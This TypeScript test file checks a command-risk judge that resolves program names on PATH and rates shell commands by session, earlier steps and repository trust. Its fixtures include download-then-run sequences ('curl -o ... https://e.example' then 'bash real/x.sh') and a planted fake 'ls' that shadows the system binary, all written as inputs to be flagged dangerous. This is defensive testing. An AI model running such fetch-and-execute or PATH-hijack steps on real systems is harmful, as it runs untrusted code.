import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Performed } from '../../../core/risk/index.ts';
import { findProgram } from './programs.ts';
import { createRealPaths } from './real-paths.ts';
import { resolveAndJudge } from './resolve-and-judge.ts';

let workspace: string;
beforeEach(() => {
  workspace = realpathSync(mkdtempSync(join(tmpdir(), 'programs-')));
  mkdirSync(join(workspace, 'bin'));
});
afterEach(() => rmSync(workspace, { recursive: true, force: true }));

const systemPath = '/usr/local/bin:/usr/bin:/bin';
const find = (path: string | undefined) => findProgram(path, workspace, workspace, createRealPaths());
const fake = (name: string): string => {
  const file = join(workspace, 'bin', name);
  writeFileSync(file, '#!/bin/sh\n');
  chmodSync(file, 0o755);
  return file;
};

describe('what a name stands for', () => {
  it('is the system’s own where no other comes before it', () => {
    expect(find(systemPath)('ls')).toEqual({ is: 'system' });
    expect(find(undefined)('ls')).toEqual({ is: 'system' });
    expect(find(`${workspace}/bin:${systemPath}`)('ls')).toEqual({ is: 'system' });
    expect(find(systemPath)('there-is-no-such-program')).toEqual({ is: 'missing' });
    expect(find(systemPath)('/bin/ls')).toEqual({ is: 'system' });
  });

  it('is another file where one does, in whatever way it was put there', () => {
    const path = fake('ls');
    expect(find(`${workspace}/bin:${systemPath}`)('ls')).toEqual({ is: 'other', path });
    expect(find(`bin:${systemPath}`)('ls')).toEqual({ is: 'other', path });
    expect(find(`:${systemPath}`)('ls').is).toBe('other');
    expect(find(systemPath)('./bin/ls')).toEqual({ is: 'other', path });
    symlinkSync(path, join(workspace, 'cat'));
    expect(find(`${workspace}:${systemPath}`)('cat')).toEqual({ is: 'other', path });
  });

  it('is not the system’s where a link gives a program of its another name', () => {
    symlinkSync('/bin/rm', join(workspace, 'bin', 'ls'));
    expect(find(`${workspace}/bin:${systemPath}`)('ls').is).toBe('other');
  });

  it('passes over what cannot be run', () => {
    writeFileSync(join(workspace, 'bin', 'ls'), 'no program');
    mkdirSync(join(workspace, 'bin', 'cat'));
    expect(find(`${workspace}/bin:${systemPath}`)('ls').is).toBe('system');
    expect(find(`${workspace}/bin:${systemPath}`)('cat').is).toBe('system');
  });
});

describe('judged in the session as it is', () => {
  const judge = async (
    command: string,
    env: Record<string, string> = {},
    cwd = workspace,
    earlier: readonly Performed[] = [],
  ) => {
    const place = {
      session: { cwd, env },
      baseEnv: { PATH: systemPath },
      workspace,
      home: '/home/nobody',
      storeDir: '/home/nobody/store',
      shell: 'bash' as const,
    };
    const { level } = await resolveAndJudge({ kind: 'run-command', command }, place, {
      trusted: true,
      earlier: [earlier],
    });
    return level;
  };

  it('what a fake program would run is not safe', async () => {
    expect(await judge('ls')).toBe('safe');
    expect(await judge('ls', { PATH: `${workspace}/bin:${systemPath}` })).toBe('safe');
    fake('ls');
    expect(await judge('ls')).toBe('safe');
    expect(await judge('ls', { PATH: `${workspace}/bin:${systemPath}` })).toBe('caution');
    expect(await judge('cat a | ls', { PATH: `${workspace}/bin:${systemPath}` })).toBe('caution');
  });

  it('what an earlier step fetched is the same file by whatever path it is run', async () => {
    mkdirSync(join(workspace, 'real'));
    symlinkSync('real', join(workspace, 'link'));
    const fetched = (command: string): Performed[] => [
      { action: { kind: 'run-command', command }, cwd: workspace },
    ];
    const earlier = fetched('curl -o link/x.sh https://e.example');
    expect(await judge('bash real/x.sh', {}, workspace, earlier)).toBe('dangerous');
    expect(await judge('bash link/x.sh', {}, workspace, earlier)).toBe('dangerous');
    expect(await judge('cd real && ./x.sh', {}, workspace, earlier)).toBe('dangerous');
    expect(await judge('bash real/y.sh', {}, workspace, earlier)).toBe('caution');
    fake('ls');
    const path = { PATH: `${workspace}/bin:${systemPath}` };
    expect(await judge('ls', path, workspace, fetched('curl -o bin/ls https://e.example'))).toBe('dangerous');
    expect(await judge('ls', path, workspace, fetched("echo 'echo hi' > bin/ls"))).toBe('caution');
  });

  it('a repository below the workspace, or outside of it, is not trusted with it', async () => {
    expect(await judge('git status')).toBe('safe');
    mkdirSync(join(workspace, 'vendor/lib/.git'), { recursive: true });
    expect(await judge('git status', {}, join(workspace, 'vendor'))).toBe('safe');
    expect(await judge('git status', {}, join(workspace, 'vendor/lib'))).toBe('caution');
    expect(await judge('cd vendor/lib && git status')).toBe('caution');
    expect(await judge('git status', {}, tmpdir())).toBe('caution');
  });
});
